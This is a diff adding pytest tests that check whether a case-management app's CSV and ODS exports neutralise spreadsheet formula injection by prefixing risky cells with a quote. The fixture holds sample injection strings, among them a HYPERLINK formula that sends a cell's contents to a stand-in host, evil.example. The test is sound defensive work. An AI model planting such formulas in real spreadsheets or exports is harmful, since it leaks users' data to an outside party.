@@ -112,3 +112,30 @@ def test_an_agency_exports_only_its_own_parts(client, staff, cases):
 def test_unknown_export_format_is_not_found(client, staff):
     client.force_login(staff["router"])
     assert client.get("/cases/export.xlsx").status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"點此")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+
+
+@pytest.fixture
+def formula_cases(staff):
+    for number, subject in enumerate(FORMULAS):
+        services.open_case(
+            kind="petition",
+            subject=subject,
+            body="內容。",
+            channel="letter",
+            received_on=dt.date(2025, 3, 3),
+            requester={"name": f"=王明{number}"},  # masked: =○○{number}
+        )
+
+
+@pytest.mark.parametrize("fmt", ["csv", "ods"])
+def test_cells_that_start_like_a_formula_are_written_as_text(client, staff, formula_cases, fmt):
+    client.force_login(staff["router"])
+    response = client.get(f"/cases/export.{fmt}")
+    rows = (read_csv if fmt == "csv" else read_ods)(response)[1:]
+    assert sorted(row[2] for row in rows) == sorted("'" + subject for subject in FORMULAS)
+    assert sorted(row[-1] for row in rows) == [f"'=○○{n}" for n in range(len(FORMULAS))]
+    for row in rows:  # no cell of the export starts like a formula any more
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
